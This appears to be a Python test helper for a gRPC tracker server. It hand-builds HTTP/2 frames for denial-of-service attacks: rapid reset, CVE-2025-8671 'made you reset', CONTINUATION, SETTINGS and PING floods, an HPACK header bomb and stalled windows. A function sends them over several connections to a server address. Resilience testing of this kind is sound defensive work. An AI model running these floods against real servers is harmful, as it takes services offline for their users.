"""HTTP/2 by hand, for attacks that no client library would carry out: frames, and headers without compression."""

from __future__ import annotations

import socket
import struct
from collections import Counter
from collections.abc import Callable
from contextlib import ExitStack, closing, suppress

from tests.server.processes import Server

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM = ACK = 1
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that is neither compressed nor remembered; both parts have less than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def block(method: bytes = b"GetServerInfo") -> bytes:
    """The headers of a call."""
    return b"".join(
        literal(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", b"/substream.tracker.v1.Tracker/" + method),
            (b":authority", b"localhost"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        )
    )


def settings(*values: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *each) for each in values))


def streams(count: int, after_headers: Callable[[int], bytes]) -> bytes:
    """So many calls, each with frames after its headers."""
    head = block()
    return b"".join(
        frame(HEADERS, END_HEADERS, number, head) + after_headers(number) for number in range(1, 2 * count, 2)
    )


def rapid_reset(count: int) -> bytes:
    return streams(count, lambda number: frame(RST_STREAM, 0, number, CANCEL))


def made_you_reset(count: int) -> bytes:
    """Streams that the server has to reset: a window that grows by nothing (CVE-2025-8671)."""
    return streams(count, lambda number: frame(WINDOW_UPDATE, 0, number, struct.pack(">I", 0)))


def made_you_reset_by_priority(count: int) -> bytes:
    return streams(count, lambda number: frame(PRIORITY, 0, number, struct.pack(">I", number) + b"\x10"))


def empty_data(count: int) -> bytes:
    return frame(HEADERS, END_HEADERS, 1, block(b"ReportStream")) + frame(DATA, 0, 1) * count


def continuations(count: int) -> bytes:
    part = literal(b"x" * 100, b"y" * 100)
    return frame(HEADERS, 0, 1, block()) + frame(CONTINUATION, 0, 1, part * 70) * (count // 10 + 1)


def settings_flood(count: int) -> bytes:
    return settings((4, 65_535)) * count


def ping_flood(count: int) -> bytes:
    return frame(PING, 0, 0, b"12345678") * count


def header_bomb(count: int) -> bytes:
    """A large header is remembered once, and then named by one byte, again and again.

    It is not among the attacks of the tests: gRPC's server does not bear it (docs/security.md).
    """
    remembered = b"\x40" + b"\x01x" + b"\x7f" + bytes([(3000 - 127) & 0x7F | 0x80, (3000 - 127) >> 7]) + b"y" * 3000
    named = remembered + b"\xbe" * 10_000
    head = block()
    return b"".join(
        frame(HEADERS, END_HEADERS, number, head + named) for number in range(1, 2 * max(2, count // 500), 2)
    )


def no_window(count: int) -> bytes:
    """Answers that may not be sent, since the caller takes no byte of them.

    Not among the attacks of the tests either.
    """
    return settings((4, 0)) + streams(min(count, 1000), lambda number: frame(DATA, END_STREAM, number, bytes(5)))


def slow_heads(count: int) -> bytes:
    """Heads that are never finished."""
    return frame(HEADERS, 0, 1, block()[:50])


def strike(address: str, attack: Callable[[int], bytes], count: int, connections: int) -> Counter[str]:
    """Carry an attack out on so many connections at once; whether the server has closed them meanwhile."""
    host, _, port = address.rpartition(":")
    data = attack(count)
    answers = Counter[str]()
    with ExitStack() as stack:
        opened = [
            stack.enter_context(closing(socket.create_connection((host, int(port)), 10))) for _ in range(connections)
        ]
        for connection in opened:
            connection.sendall(PREFACE + settings())
        rest = dict.fromkeys(opened, 0)
        while rest:  # in turns, so that one that is paused holds no other up
            for connection, sent in list(rest.items()):
                connection.settimeout(1)
                try:
                    connection.sendall(data[sent : sent + 65_536])
                    rest[connection] += 65_536
                    connection.setblocking(False)
                    with suppress(BlockingIOError):
                        while connection.recv(1 << 16):
                            pass
                    if rest[connection] >= len(data):
                        del rest[connection]
                        answers["TAKEN"] += 1
                except TimeoutError:
                    del rest[connection]
                    answers["PAUSED"] += 1
                except OSError:
                    del rest[connection]
                    answers["CLOSED"] += 1
    return answers


def http2(
    attack: Callable[[int], bytes], count: int, connections: int = 2
) -> Callable[[Server, float, None], Counter[str]]:
    """An attack for `attacks.ATTACKS`, of so many frames or streams on each connection at once."""
    return lambda server, scale, _: strike(server.address, attack, max(2_000, int(count * scale)), connections)
